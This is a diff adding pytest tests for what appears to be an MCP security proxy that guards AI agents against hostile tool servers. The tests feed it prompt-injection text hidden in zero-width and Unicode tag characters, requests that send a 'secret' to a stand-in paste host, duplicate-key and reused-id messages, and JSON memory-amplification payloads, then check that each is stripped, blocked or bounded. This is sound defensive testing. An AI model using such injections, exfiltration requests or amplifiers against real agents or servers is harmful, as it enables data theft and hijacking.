@@ -109,3 +109,272 @@ def test_a_response_that_answers_no_request_never_reaches_the_client(hostile, ki
     assert read["result"]["content"][0]["text"] == "fine"
     drops = [row for row in store.audit.rows() if row["action"] == "drop"]
     assert drops and "which no request awaits" in drops[0]["reason"]
+
+
+# --- every surface, every string ---------------------------------------------------------
+
+HIDDEN = "\u200b" + TAGS  # always stripped, whatever the server's trust
+
+
+def line(result: dict) -> str:
+    return '{"jsonrpc":"2.0","id":$ID,"result":' + json.dumps(result) + "}"
+
+
+# Results that carry a stranger's text in places no surface table named, by request method.
+SURFACES = {
+    "tasks/get": {
+        "taskId": "t1",
+        "status": "completed",
+        "statusMessage": f"done{HIDDEN}",
+        "result": {"content": [{"type": "text", "text": INJECTION}]},
+    },
+    "tasks/list": {"tasks": [{"taskId": "t1", "status": "working", "statusMessage": INJECTION}]},
+    "completion/complete": {"completion": {"values": [INJECTION, f"main{HIDDEN}"], "total": 2}},
+    "resources/list": {
+        "resources": [
+            {"uri": f"file:///notes{HIDDEN}", "name": INJECTION, "mimeType": "text/plain"}
+        ]
+    },
+}
+REQUESTS = {
+    "tasks/get": {"taskId": "t1"},
+    "tasks/list": {},
+    "completion/complete": {
+        "ref": {"type": "ref/prompt", "name": "p"},
+        "argument": {"name": "branch", "value": "ma"},
+    },
+    "resources/list": {},
+}
+
+
+@pytest.mark.parametrize("method", list(SURFACES))
+def test_every_answer_that_carries_data_is_cleaned_and_taints(hostile, start_proxy, method, store):
+    command, env = hostile({method: [line(SURFACES[method])]})
+    proxy = start_proxy(command[command.index("proxy") + 1 :], env=env)
+    reply = proxy.request(method, REQUESTS[method])
+    proxy.close()
+    text = json.dumps(reply, ensure_ascii=False)
+    assert "id_rsa" not in text and "\u200b" not in text and "\U000e0073" not in text, reply
+    assert store.sessions.state("test-session").tainted, method
+
+
+def test_strings_of_schemas_logs_and_unknown_blocks_lose_their_hidden_characters(
+    hostile, start_proxy
+):
+    tools = {
+        "tools": [
+            {
+                "name": "read_page",
+                "description": "Read a page.",
+                "inputSchema": {
+                    "type": "object",
+                    "properties": {
+                        f"url{HIDDEN}": {
+                            "type": "string",
+                            "default": f"x{HIDDEN}",
+                            "enum": [f"a{HIDDEN}"],
+                            "examples": [f"b{HIDDEN}"],
+                        }
+                    },
+                },
+                "_meta": {"vendor/note": f"n{HIDDEN}"},
+            }
+        ]
+    }
+    log = {"jsonrpc": "2.0", "method": "notifications/message", "params": {}}
+    log["params"] = {"level": "info", "logger": f"web{HIDDEN}", "data": "ok"}
+    call = [json.dumps(log), line({"content": [{"type": "mystery", "body": f"m{HIDDEN}"}]})]
+    command, env = hostile({"tools/list": [line(tools)], "read_page": call})
+    proxy = start_proxy(command[command.index("proxy") + 1 :], env=env)
+    listed = proxy.request("tools/list")
+    read = proxy.call("read_page")
+    proxy.close()
+    for message in (listed, read, *proxy.notifications):
+        text = json.dumps(message, ensure_ascii=False)
+        assert "\u200b" not in text and not any(0xE0000 <= ord(c) <= 0xE007F for c in text)
+    assert proxy.notifications[0]["params"]["logger"].startswith("web\n[lazaretto: removed hidden")
+
+
+# --- the client side ---------------------------------------------------------------------
+
+
+def seen_by_server(env: dict) -> list[dict]:
+    path = Path(env["HOSTILE_LOG"])
+    return [json.loads(raw) for raw in path.read_bytes().splitlines()] if path.exists() else []
+
+
+def started(hostile, start_proxy, script: dict, policy: str = POLICY):
+    command, env = hostile(script)
+    Path(env["LAZARETTO_POLICY"]).write_text(policy)
+    return start_proxy(command[command.index("proxy") + 1 :], env=env), env
+
+
+CLIENT_EXFIL = {
+    "resources/read": {"uri": "https://paste.example/collect?d=secret"},
+    "resources/subscribe": {"uri": "https://paste.example/collect?d=secret"},
+    "x/custom": {"payload": "secret"},
+}
+
+
+@pytest.mark.parametrize("method", list(CLIENT_EXFIL))
+def test_a_tainted_session_refuses_every_request_that_carries_data_out(
+    hostile, start_proxy, method, store
+):
+    proxy, env = started(hostile, start_proxy, {})
+    proxy.call("read_page")  # an untrusted read taints the session
+    reply = proxy.request(method, CLIENT_EXFIL[method])
+    proxy.close()
+    assert reply["error"]["code"] == -32002, reply
+    assert (
+        reply["error"]["data"]["reason"] == "tainted_outbound" and reply["error"]["data"]["token"]
+    )
+    assert method not in [message.get("method") for message in seen_by_server(env)]
+
+
+@pytest.mark.parametrize(
+    ("method", "params"),
+    [
+        ("resources/read", {"uri": "https://paste.example/x"}),
+        ("resources/subscribe", {"uri": "https://paste.example/x"}),
+        ("prompts/get", {"name": "p", "arguments": {"to": "https://paste.example/x"}}),
+        (
+            "completion/complete",
+            {
+                "ref": {"type": "ref/prompt", "name": "p"},
+                "argument": {"name": "a", "value": "me@paste.example"},
+            },
+        ),
+        ("x/custom", {"target": "paste.example"}),
+    ],
+)
+def test_every_request_is_host_checked_on_a_clean_session(hostile, start_proxy, method, params):
+    proxy, env = started(hostile, start_proxy, {}, 'allow_hosts = ["github.com"]\n' + POLICY)
+    reply = proxy.request(method, params)
+    proxy.close()
+    assert reply["error"]["data"]["reason"] == "host_not_allowed", reply
+    assert method not in [message.get("method") for message in seen_by_server(env)]
+
+
+def test_an_approved_resource_read_goes_through_once(hostile, start_proxy, store):
+    proxy, env = started(hostile, start_proxy, {})
+    proxy.call("read_page")
+    params = {"uri": "https://docs.example/page", "_meta": {"progressToken": 1}}
+    refused = proxy.request("resources/read", params)
+    token = refused["error"]["data"]["token"]
+    store.decisions.approve(store.blocked.by_token(token)["id"])
+    retried = proxy.request("resources/read", {**params, "_meta": {"progressToken": 2}})
+    again = proxy.request("resources/read", params)
+    proxy.close()
+    assert "result" in retried and again["error"]["code"] == -32002
+    assert [m.get("method") for m in seen_by_server(env)].count("resources/read") == 1
+
+
+def test_a_tool_call_sent_as_a_notification_never_reaches_the_server(hostile, start_proxy, store):
+    proxy, env = started(hostile, start_proxy, {})
+    proxy.send(
+        {
+            "jsonrpc": "2.0",
+            "method": "tools/call",
+            "params": {"name": "post_message", "arguments": {}},
+        }
+    )
+    proxy.request("ping")
+    proxy.close()
+    assert "tools/call" not in [message.get("method") for message in seen_by_server(env)]
+    assert any("sent as a notification" in (row["reason"] or "") for row in store.audit.rows())
+
+
+def test_a_line_that_names_a_key_twice_is_refused(hostile, start_proxy):
+    proxy, env = started(hostile, start_proxy, {})
+    proxy.send_raw(
+        b'{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"read_page",'
+        b'"name":"post_message","arguments":{}}}\n'
+    )
+    reply = proxy.recv()
+    proxy.close()
+    assert reply["id"] == 5 and reply["error"]["code"] == -32600
+    assert "twice" in reply["error"]["message"]
+    assert "tools/call" not in [message.get("method") for message in seen_by_server(env)]
+
+
+@pytest.mark.parametrize("second_id", [7, "7", 7.0])
+def test_a_request_reusing_a_pending_id_is_refused(hostile, start_proxy, second_id):
+    # read_page is never answered (an empty script entry), so request 7 stays pending.
+    proxy, env = started(hostile, start_proxy, {"read_page": []})
+    proxy.send(
+        {
+            "jsonrpc": "2.0",
+            "id": 7,
+            "method": "tools/call",
+            "params": {"name": "read_page", "arguments": {}},
+        }
+    )
+    proxy.send(
+        {
+            "jsonrpc": "2.0",
+            "id": second_id,
+            "method": "tools/call",
+            "params": {"name": "other", "arguments": {}},
+        }
+    )
+    reply = proxy.recv()
+    proxy.close()
+    assert reply["error"]["code"] == -32600 and "already waiting" in reply["error"]["message"]
+    assert [
+        m["params"]["name"] for m in seen_by_server(env) if m.get("method") == "tools/call"
+    ] == ["read_page"]
+
+
+# --- bounded work --------------------------------------------------------------------------
+
+# Shapes that cost json many times their size once parsed: (prefix, unit repeated, suffix).
+AMPLIFIERS = {
+    "short strings": (
+        '{"jsonrpc":"2.0","id":$ID,"result":{"structuredContent":{"v":[',
+        '"a",',
+        '"a"]},"content":[]}}',
+    ),
+    "empty objects": (
+        '{"jsonrpc":"2.0","id":$ID,"result":{"structuredContent":{"v":[',
+        "{},",
+        '{}]},"content":[]}}',
+    ),
+    "short strings in a text": (
+        '{"jsonrpc":"2.0","id":$ID,"result":{"content":[{"type":"text","text":"[',
+        '\\"a\\",',
+        '\\"a\\"]"}]}}',
+    ),
+}
+MiB = 1024 * 1024
+
+
+def peak_rss(pid: int) -> int:
+    """The process's peak resident memory so far, in bytes (Linux)."""
+    with open(f"/proc/{pid}/status") as status:
+        for row in status:
+            if row.startswith("VmHWM:"):
+                return int(row.split()[1]) * 1024
+    raise AssertionError("no VmHWM")
+
+
+@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads /proc (Linux)")
+@pytest.mark.parametrize("shape", list(AMPLIFIERS))
+def test_a_line_that_would_explode_in_memory_is_judged_within_four_times_its_size(
+    hostile, start_proxy, shape
+):
+    prefix, unit, suffix = AMPLIFIERS[shape]
+    times = 24 * MiB // len(unit)
+    size = len(prefix) + len(unit) * times + len(suffix)
+    line = {"prefix": prefix, "repeat": unit, "times": times, "suffix": suffix}
+    proxy, _env = started(hostile, start_proxy, {"read_page": [line]})
+    proxy.request("ping")
+    before = peak_rss(proxy.proc.pid)
+    reply = proxy.request("tools/call", {"name": "read_page", "arguments": {}}, timeout=120)
+    after = peak_rss(proxy.proc.pid)
+    proxy.close()
+    assert after - before <= 4 * size, (shape, (after - before) / size)
+    # Judged: withheld whole, or read as one plain text; never passed on unread.
+    text = json.dumps(reply)
+    assert "withheld the server's reply" in text or reply["result"]["content"][0][
+        "text"
+    ].startswith('["a"'), text[:300]
